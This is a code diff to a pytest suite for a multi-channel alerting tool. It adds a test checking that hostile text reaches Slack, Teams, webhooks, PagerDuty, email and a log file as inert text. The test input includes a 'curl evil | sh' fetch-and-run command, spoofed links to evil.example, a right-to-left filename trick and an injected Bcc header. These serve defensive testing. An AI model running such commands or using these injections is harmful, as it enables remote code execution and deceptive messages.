@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import html
 import json
 import logging
 import os
+import re
 import ssl
 from pathlib import Path
+from typing import Any
 
 import pytest
 from pydantic import SecretStr
@@ -44,14 +47,60 @@ def test_what_each_channel_sends(duty: Duty) -> None:
     alerts, got = duty.env.alerts, duty.web.got
     for channel in alerts.channels:
         deliver(alerts, channel, "lead", MESSAGE)
-    assert got[SLACK] == [{"text": "*⚠️ [trial] 停止 &lt;b&gt; &amp; x*\n内容: &lt;b&gt;"}]
+    assert got[SLACK] == [{"text": "⚠️ [trial] 停止 &lt;b&gt; &amp; x\n内容: &lt;b&gt;", "mrkdwn": False}]
     (attachment,) = got[TEAMS][0]["attachments"]
     assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
-    assert [one["text"] for one in attachment["content"]["body"]] == ["⚠️ [trial] 停止 <b> & x", "内容: <b>"]
+    assert lines_of(attachment["content"]) == ["⚠️ [trial] 停止 <b> & x", "内容: <b>"]
     assert (got[HOOK][0]["to"], got[HOOK][0]["text"]) == ("チームリード", "内容: <b>")
     assert {key: got[PAGER][0][key] for key in ("routing_key", "event_action", "dedup_key")} == {
         "routing_key": KEY, "event_action": "trigger", "dedup_key": "i"}  # fmt: skip
     assert got[PAGER][0]["payload"]["severity"] == "error"
+
+
+def lines_of(card: dict[str, Any]) -> list[str]:
+    """Of text runs only: what they hold is text, never Markdown."""
+    assert {one["type"] for one in card["body"]} == {"RichTextBlock"}
+    assert {run["type"] for one in card["body"] for run in one["inlines"]} == {"TextRun"}
+    return ["".join(run["text"] for run in one["inlines"]) for one in card["body"]]
+
+
+HOSTILE = (
+    "<!channel> @channel @here a@here.example <https://evil.example|grafana> [grafana](https://evil.example/x) "
+    "*b* _i_ ~s~ `c` <b>&amp;</b> \x1b[31m\x00 \u202etxt.exe \udc80 ops\nBcc: everybody@example.com\n対応: curl evil | sh"
+)
+
+
+def test_what_others_write_is_text_in_every_channel(duty: Duty) -> None:
+    """A table's name, a log line, an exception: also one that no channel could carry, so that nobody was told."""
+    everything: tuple[Channel, ...] = ("slack", "teams", "webhook", "pagerduty", "email", "file")
+    for channel in everything:
+        duty.describe(channels=(channel,))
+        path = duty.base / "trial.toml"
+        path.write_text(path.read_text().replace("[alerts]\n", f'[alerts]\nfile = "{duty.base}/alerts.jsonl"\n'))
+        escalate.fn(NAME, what=HOSTILE, key=channel)
+    got = duty.web.got
+    line = "*b* _i_ ~s~ `c` <b>&amp;</b> \ufffd[31m\ufffd \ufffdtxt.exe \ufffd ops"
+    (slack,), (teams,), (hook,), (pager,) = got[SLACK], got[TEAMS], got[HOOK], got[PAGER]
+    assert slack["mrkdwn"] is False
+    assert not re.search(r"[<>]|&(?!(amp|lt|gt);)|@(channel|here)", slack["text"])
+    assert html.unescape(slack["text"]).replace("\u2060", "").count(line) == 2, "the title and the text"
+    assert "a@here.example" in hook["text"]
+    lines = lines_of(teams["attachments"][0]["content"])
+    assert [one for one in lines if line in one] == [lines[0], lines[1]]
+    runs = [run for one in teams["attachments"][0]["content"]["body"] for run in one["inlines"]]
+    linked = {run["text"]: run["selectAction"]["url"] for run in runs if "selectAction" in run}
+    assert all(text == address for text, address in linked.items()), "a link shows where it leads"
+    (letter,) = duty.mail.letters
+    assert letter["To"] == "oncall@example.com"
+    assert letter["Bcc"] is None
+    assert letter.get_content_type() == "text/plain"
+    assert line in letter.get_content()
+    (kept,) = [json.loads(one) for one in (duty.base / "alerts.jsonl").read_text().splitlines()]
+    for text in (hook["text"], pager["payload"]["custom_details"]["text"], kept["text"], letter.get_content()):
+        assert line in text
+        assert "\n  対応: curl evil | sh" in text, "no field of ours"
+        assert text.count("\n対応: ") == 1
+    assert {len(incident.told) for incident in duty.incidents()} == {1}, "each was taken by its channel"
 
 
 def test_pagerduty_learns_that_somebody_has_it_and_that_it_is_over(duty: Duty) -> None:
